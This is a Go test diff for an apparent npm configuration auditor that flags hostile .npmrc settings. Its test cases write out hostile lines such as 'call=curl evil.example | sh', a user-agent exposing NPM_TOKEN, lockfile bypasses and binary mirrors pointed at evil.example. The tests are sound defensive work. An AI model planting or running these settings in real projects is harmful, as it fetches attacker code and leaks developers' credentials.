@@ -212,6 +212,25 @@ func TestHostileProject(t *testing.T) {
 		{"script-shell=./evil.sh", "program"},
 		{"node-options=--require ./evil.js", "every Node program"},
 		{"user-agent=${NPM_TOKEN}", "every registry is told"},
+		{"package=evil", "what npx fetches"},
+		{"package[]=evil", "what npx fetches"},
+		{"call=curl evil.example | sh", "what npx runs"},
+		{"package-lock=false", "ignore the lockfile"},
+		{"package-lock=0", "ignore the lockfile"},
+		{"shrinkwrap=false", "ignore the lockfile"},
+		{"replace-registry-host=always", "hosts that the lockfile names"},
+		{"replace-registry-host=mirror.example", "hosts that the lockfile names"},
+		{"global", "the machine instead"},
+		{"location=global", "the machine instead"},
+		{"workspace=evil", "in which folder"},
+		{"workspaces=true", "in which folders"},
+		{"yes=true", "question"},
+		{"dangerously-allow-all-scripts=true", "every package"},
+		{"init.module=./evil.js", "program"},
+		{"disturl=https://evil.example/", "headers"},
+		{"electron_mirror=https://evil.example/", "download programs"},
+		{"sharp-binary-host=https://evil.example/", "download programs"},
+		{"password=abc", "credential"},
 	} {
 		t.Run(tt.line, func(t *testing.T) {
 			c := config(t, npm.Sources{User: user, Project: npmrc(t, ".npmrc", "# first\n"+tt.line), Environ: env})
@@ -244,6 +263,60 @@ func TestHostileProject(t *testing.T) {
 				t.Errorf("trusted (-want +got):\n%s", diff)
 			}
 		})
+	}
+}
+
+// What honest projects write stays silent.
+func TestHarmlessKeys(t *testing.T) {
+	const lines = "engine-strict=true\nsave-exact=true\nsave-prefix=~\nfund=false\naudit=false\naudit-level=high\nlegacy-peer-deps=true\n" +
+		"force=true\nnode-linker=hoisted\nauto-install-peers=true\nstrict-peer-dependencies=false\nstrict-peer-deps=true\nloglevel=error\n" +
+		"progress=false\nupdate-notifier=false\nshamefully-hoist=true\npublic-hoist-pattern[]=*eslint*\nhoist=false\nlink-workspace-packages=true\n" +
+		"package-lock=true\nshrinkwrap=true\nignore-scripts=true\nallow-scripts[]=esbuild\nglobal=false\nlocation=project\nworkspaces=false\n" +
+		"dangerously-allow-all-scripts=false\nreplace-registry-host=never\nprefer-offline=true\nprefer-dedupe=true\ninstall-strategy=nested\nworkspaces-update=false\n" +
+		"include-workspace-root=true\nlockfile-version=3\nomit=optional\noptional=false\nmin-release-age=7\nprovenance=true\naccess=public\ntag=next\n" +
+		"git-tag-version=false\ntag-version-prefix=\nmessage=release %s\nsign-git-tag=true\ninit-license=MIT\nresolution-mode=highest\nuse-node-version=22.0.0\n"
+	c := config(t, npm.Sources{Project: npmrc(t, ".npmrc", lines)})
+	for _, i := range c.Issues() {
+		t.Errorf("%s: %s", i.Key, i.Message)
+	}
+}
+
+func TestProjectRegistries(t *testing.T) {
+	user := npmrc(t, "user", "@own:registry=https://user.example/")
+	for _, tc := range []struct {
+		project, name string
+		environ       []string
+		want          string
+	}{
+		{project: "registry=https://mirror.example", name: "a", want: "https://mirror.example/"},
+		{project: "registry=https://mirror.example", name: "@acme/a", want: "https://mirror.example/"},
+		{project: "@acme:registry=https://mirror.example", name: "@acme/a", want: "https://mirror.example/"},
+		{project: "@acme:registry=https://mirror.example", name: "a"},
+		{project: "@acme:registry=https://mirror.example\nscope=acme", name: "a", want: "https://mirror.example/"},
+		{project: "@acme:registry=https://one.example\nregistry=https://two.example", name: "@acme/a", want: "https://one.example/ https://two.example/"},
+		{project: "registry=https://mirror.example", name: "a", environ: []string{"npm_config_registry=https://user.example/"}},
+		{project: "registry=http://mirror.example/", name: "a", want: "http://mirror.example/"},             // refused here, but not by npm
+		{project: "registry=https://u:hunter2@mirror.example/", name: "a", want: "https://mirror.example/"}, // refused, too
+		{project: "registry=https://${HOST}/", name: "a", want: "https://${HOST}/"},                         // and this
+		{project: "registry=" + npm.PublicRegistry, name: "a", want: npm.PublicRegistry},                    // which is trusted
+		{project: "fund=false", name: "@own/a"},
+	} {
+		c := config(t, npm.Sources{User: user, Project: npmrc(t, ".npmrc", tc.project), Environ: tc.environ})
+		if got := strings.Join(c.ProjectRegistries(tc.name), " "); got != tc.want {
+			t.Errorf("%s: %s is asked of %q, want %q", tc.project, tc.name, got, tc.want)
+		}
+	}
+}
+
+func TestOnPublicRegistry(t *testing.T) {
+	public := strings.TrimSuffix(npm.PublicRegistry, "/")
+	for raw, want := range map[string]bool{
+		public + "/a/-/a-1.0.0.tgz": true, strings.ToUpper(public) + ":443/a": true, strings.Replace(public, "https", "http", 1) + "/a": true,
+		public + ".evil.example/a": false, "https://mirror.example/a": false, "": false, ":": false,
+	} {
+		if got := npm.OnPublicRegistry(raw); got != want {
+			t.Errorf("%s: %v", raw, got)
+		}
 	}
 }
 
